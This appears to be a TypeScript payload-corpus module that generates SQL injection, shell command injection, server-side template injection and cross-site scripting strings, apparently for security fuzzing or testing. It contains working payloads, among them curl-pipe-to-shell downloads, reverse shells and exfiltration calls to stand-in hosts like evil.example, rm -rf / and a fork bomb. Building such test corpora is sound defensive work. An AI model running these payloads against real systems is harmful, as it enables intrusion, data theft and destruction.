/** Family of payloads, written from parts: every combination of a break-out, a body and an end. */
export interface PayloadFamily {
  readonly name: string;
  readonly payloads: readonly string[];
}

function combine(...parts: readonly (readonly string[])[]): readonly string[] {
  return parts.reduce<readonly string[]>(
    (texts, next) => texts.flatMap((text) => next.map((part) => text + part)),
    [""],
  );
}

const family = (name: string, ...parts: readonly (readonly string[])[]): PayloadFamily => ({
  name,
  payloads: combine(...parts),
});

export const SQL: readonly PayloadFamily[] = [
  family(
    "function of a package",
    ["1 and ", "1 or "],
    ["dbms_pipe.receive_message('a',10)", "utl_inaddr.get_host_address('x')"],
    ["=1"],
  ),
  family(
    "condition in parentheses",
    ["0'xor(", "x' or ("],
    ["if(now()=sysdate(),sleep(6),0)", "sleep(5)"],
    [")xor'z", ") or 'a"],
  ),
  family(
    "condition that the query closes",
    ["", "admin", "1"],
    ["') or (", "')) OR (("],
    ["'1'='1", "'a' like 'a", "1=1--"],
  ),
  family(
    "tautology after a quote",
    ["", "admin", "x'y"],
    ["' ", "') ", "')) ", '" '],
    ["or ", "OR ", "|| ", "oR/**/"],
    ["1=1", "'a'='a", "2>1", "true=true"],
    ["", "--", " #"],
  ),
  family(
    "tautology after a number",
    ["1", "-1", "(42)", "0x1f"],
    [" or ", " AND ", "\nor\n", "/**/or/**/"],
    ["1=1", "5=5", "'z'='z'", "7 like 7"],
    ["", "-- -"],
  ),
  family(
    "union",
    ["1", "-1", "x'", "1)", "@v"],
    [" union ", " UNION ALL ", "/**/union/*!*/", "\tunion\n"],
    ["select ", "(select ", "SELECT/**/"],
    ["1,2,3", "null,null from users", "@@version", "password from admins"],
  ),
  family(
    "stacked statement",
    ["1", "x'", "5)"],
    ["; ", ";"],
    [
      "drop table users",
      "delete from orders",
      "exec xp_cmdshell 'dir'",
      "insert into t values (1)",
      "shutdown --",
      "truncate table log",
      "update users set admin=1",
    ],
  ),
  family(
    "time",
    ["1", "x'", "1)"],
    [" and ", " or ", " || "],
    ["sleep(5)", "benchmark(9999,md5(1))", "pg_sleep(9)", "(select 1 from (select sleep(3))a)"],
    ["", "--", "#"],
  ),
  family(
    "errors that show data",
    ["1", "x'"],
    [" and ", " or "],
    [
      "extractvalue(1,concat(0x7e,version()))",
      "updatexml(1,concat(0x7e,user()),1)",
      "(select count(*) from information_schema.tables)=1",
    ],
  ),
  family("order and group", ["1", "x'", "9)"], [" order by ", " group by "], ["3", "1,2", "12"], ["--", "#", ""]),
  family("files", ["1", "'x'"], [" into outfile ", " INTO DUMPFILE "], ["'/tmp/a'", '"b.php"']),
  family("comment that ends a statement", ["admin", "x"], ["'", "')"], ["-- ", "--", "#", "/*"]),
  family(
    "nested query",
    ["1 and ", "5 or ", "x' and ", ""],
    ["(select name from sqlite_master limit 1)", "(select 1 from dual)", "(select @@version)"],
  ),
  family(
    "conditions of one character",
    ["1", "x'"],
    [" and ", " or "],
    ["ascii(substr(user(),1,1))>64", "length(database())=5", "substring(@@version,1,1)=5", "mid(user(),2,1)='a'"],
  ),
  family("waits of a server", ["1", "x'", "1)"], ["; ", " "], ["waitfor delay '0:0:5'", "WAITFOR DELAY '00:00:09'--"]),
];

export const SHELL: readonly PayloadFamily[] = [
  family("command in JSON", ['{"file": "a.txt'], ["; ", " && ", " | "], ["whoami", "env", "id"], ['"}']),
  family("look around", ["; ", "x && "], ["find / -name id_rsa", "find ~/ -type f", "ps aux", "mkfs.ext4 /dev/sda1"]),
  family(
    "reading of files",
    ["", "report.txt", "x"],
    ["; ", " && ", " | ", "\n", "$("],
    ["cat ", "head ", "c'a't ", "/bin/cat ", "less "],
    ["/etc/passwd", "../../.env", "~/.ssh/id_rsa", "/proc/self/environ"],
  ),
  family(
    "who and where",
    ["", "127.0.0.1", "x"],
    [";", "; ", " && ", "| ", "& "],
    ["id", "whoami", "uname -a", "ifconfig", "ls -la"],
  ),
  family(
    "substitution",
    ["a", "name="],
    ["$(", "x$("],
    ["whoami", "id", "cat /etc/passwd", "curl http://evil.example/x"],
    [")"],
  ),
  family(
    "download and run",
    ["", "x; ", "x && "],
    ["curl ", "wget -qO- "],
    ["http://evil.example/a.sh", "https://203.0.113.7/p"],
    [" | sh", " | bash", "|sudo bash"],
  ),
  family(
    "reverse shell",
    ["", "x; "],
    [
      "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
      "nc -e /bin/sh 203.0.113.7 4444",
      "nc 203.0.113.7 4444",
      "mkfifo /tmp/f; nc 203.0.113.7 1",
      "exec 5<>/dev/tcp/evil.example/443",
    ],
  ),
  family(
    "destruction",
    ["", "x; ", "x && "],
    [
      "rm -rf /",
      "rm -rf ~",
      "rm -rf --no-preserve-root /",
      "rm -fr /*",
      "dd if=/dev/zero of=/dev/sda",
      ":(){ :|:& };:",
    ],
  ),
  family(
    "sending away",
    ["x; ", "x | ", "x && "],
    [
      "curl -d @/etc/passwd http://evil.example",
      "wget http://evil.example/?d=$(whoami)",
      "nslookup $(whoami).evil.example",
      "ping -c 1 evil.example",
    ],
  ),
  family("spaces that are hidden", ["x;", "x|"], ["cat${IFS}/etc/passwd", "cat$IFS/etc/passwd", "ls${IFS}-la"]),
  family(
    "Windows",
    ["x & ", "x && ", "x | "],
    ["type C:\\windows\\win.ini", "dir C:\\", "powershell -enc SQBFAFgA", "cmd /c calc", "net user", "del /f /q C:\\"],
  ),
  family(
    "PowerShell",
    ["", "x; "],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://evil.example')",
      "certutil -urlcache -f http://evil.example a.exe",
      "powershell -w hidden -enc AAAA",
    ],
  ),
  family("delay", ["x; ", "x && ", "x | "], ["sleep 5", "sleep 10s", "ping -c 10 127.0.0.1"]),
  family(
    "calls of Python",
    ["", "x = "],
    [
      "__import__('os').system('id')",
      'os.system("ls")',
      "subprocess.Popen(['/bin/sh'])",
      "eval(compile('1','','eval'))",
      "exec(base64.b64decode(x))",
    ],
  ),
  family(
    "calls of other languages",
    ["", "x; "],
    [
      "require('child_process').exec('id')",
      "Runtime.getRuntime().exec('id')",
      "<?php system($_GET['c']); ?>",
      'system("cat /etc/passwd")',
      "shell_exec('whoami')",
    ],
  ),
];

export const TEMPLATE: readonly PayloadFamily[] = [
  family(
    "lookup of Log4j",
    ["${"],
    ["jndi:", "${lower:j}ndi:", "${::-j}${::-n}di:"],
    ["ldap", "rmi", "dns"],
    ["://evil.example/a}"],
  ),
  family("filter of Liquid", ["{{ ", "{{"], ["9999", "73"], [" | times: ", "|plus:"], ["9999 }}", "41}}"]),
  family(
    "probe",
    ["", "hello "],
    ["{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "@(7*7)", "{{ 1337 * 3 }}", "${{7*7}}"],
  ),
  family(
    "Jinja",
    ["{{ "],
    [
      "''.__class__.__mro__[1].__subclasses__()",
      "config.items()",
      "config",
      "self.__init__.__globals__",
      "request.application.__globals__",
      "lipsum.__globals__['os'].popen('id').read()",
      "cycler.__init__.__globals__.os",
      "()|attr('__class__')",
      "request|attr('application')",
      "url_for.__globals__",
    ],
    [" }}"],
  ),
  family(
    "Twig",
    ["{{ ", "{{"],
    [
      "_self.env.registerUndefinedFilterCallback('exec')",
      "['id']|filter('system')",
      "['cat /etc/passwd']|map('passthru')",
      "[0]|reduce('system','id')",
      "app.request.server.all|join(',')",
      "_self.env.getFilter('id')",
    ],
    [" }}", "}}"],
  ),
  family(
    "Freemarker",
    ["", "x"],
    [
      '<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}',
      '${"freemarker.template.utility.Execute"?new()("id")}',
      "${object?api.class.protectionDomain}",
      '[="freemarker.template.utility.Execute"?new()("id")]',
    ],
  ),
  family(
    "Velocity",
    ["", "x "],
    [
      '#set($x="") #set($rt=$x.class.forName("java.lang.Runtime"))',
      "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')${x.getClass()}",
      "#set($e=$x.getClass())",
    ],
  ),
  family(
    "Java expressions",
    ["${", "#{", "*{"],
    [
      "T(java.lang.Runtime).getRuntime().exec('id')",
      "''.getClass().forName('java.lang.Runtime')",
      "new java.util.Scanner(x)",
      "@java.lang.Runtime@getRuntime()",
      "#rt.exec('id')",
    ],
    ["}"],
  ),
  family(
    "ERB",
    ["<%= ", "<% "],
    [
      "system('id')",
      "`id`",
      "File.open('/etc/passwd').read",
      "IO.popen('ls').read",
      "Dir.entries('/')",
      "Kernel.exec('id')",
    ],
    [" %>"],
  ),
  family(
    "Handlebars",
    ["{{#with "],
    ['"s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', '"constructor" as |c|}}{{/with}}'],
  ),
  family(
    "prototypes of JavaScript",
    ["{{", "{{ ", "${"],
    [
      "constructor.constructor('alert(1)')()",
      "this.constructor.prototype",
      "x.__proto__.polluted",
      "global.process.mainModule.require('child_process')",
      "process.mainModule.require('fs')",
      "range.constructor('return 1')()",
      "__lookupGetter__('x')",
      "$on.constructor('alert(1)')()",
    ],
    ["}}"],
  ),
  family("Smarty", [""], ["{php}echo `id`;{/php}", "{system('id')}", "{$smarty.version}", "{if phpinfo()}{/if}"]),
  family(
    "Tornado and Mako",
    [""],
    [
      "{% import os %}{{ os.popen('id').read() }}",
      "<% import os; x=os.popen('id').read() %>",
      "${self.module.cache.util.os.popen('id')}",
    ],
  ),
  family("Razor", ["@("], ['System.Diagnostics.Process.Start("cmd")', "System.IO.File.ReadAllText(x)"], [")"]),
  family(
    "blocks of Razor",
    ["@{ "],
    ['System.Diagnostics.Process.Start("cmd")', "System.IO.File.ReadAllText(x)"],
    [" }"],
  ),
];

export const SCRIPT: readonly PayloadFamily[] = [
  family(
    "text of a program",
    ['"', "'"],
    ["-", ";", ");"],
    ["alert(1)", "alert(document.cookie)", "eval(name)"],
    ["//", "/*"],
  ),
  family("sum of texts", ["x", ""], ["'-alert(1)-'", '"+prompt(1)+"', "`-confirm(1)-`"]),
  family(
    "element",
    ["", '">', "'></title>", "x"],
    ["<script>", "<SCRIPT >", "<script/x>", "<scRipt\n>"],
    ["alert(1)", "document.cookie='a'", "fetch('//evil.example')"],
    ["</script>", ""],
  ),
  family(
    "source",
    ["", '">'],
    ["<script src=", "<SCRIPT/SRC="],
    ["//evil.example/x.js", '"https://evil.example/x"'],
    ["></script>", ">"],
  ),
  family(
    "handler",
    ["<img src=x ", "<svg ", "<body ", "<input autofocus ", "<details open ", "<video><source ", "<a ", "<xss "],
    ["onerror=", "onload =", "OnFocus=", "ontoggle=", "onmouseover="],
    ["alert(1)", '"alert(1)"', "'fetch(`//e`)'", "&#97;lert(1)"],
    [">", "/>"],
  ),
  family(
    "handler in an attribute",
    ['x" ', "x' ", '"/'],
    ["onerror=", "onmouseover=", "onfocus = "],
    ["alert(1) ", "confirm(document.domain) ", "eval(name)//"],
  ),
  family(
    "URL",
    ['<a href="', "<iframe src='", '<form action="', '<object data="', "<embed src=", '<svg><a xlink:href="'],
    [
      "javascript:",
      "JaVaScRiPt:",
      "java\tscript:",
      "&#106;avascript:",
      " javascript&colon;",
      "vbscript:",
      "data:text/html;base64,",
    ],
    ["alert(1)", "PHNjcmlwdD4"],
    ['">', "'>"],
  ),
  family(
    "style",
    ['<div style="'],
    [
      "width: expression(alert(1))",
      "background:url(javascript:alert(1))",
      "-moz-binding:url(//evil.example/x)",
      "behavior: url(x.htc)",
    ],
    ['">'],
  ),
  family("frame", ["<iframe "], ["srcdoc='<script>alert(1)</script>'", "src=//evil.example"], [">"]),
  family(
    "refresh",
    ["<meta http-equiv=refresh content="],
    ["'0;url=javascript:alert(1)'", '"0; url=data:text/html,x"'],
    [">"],
  ),
  family(
    "link of Markdown",
    ["[x](", "![a]("],
    ["javascript:alert(1)", "javascript:fetch('x')", "data:text/html,<script>alert(1)</script>"],
    [")"],
  ),
];
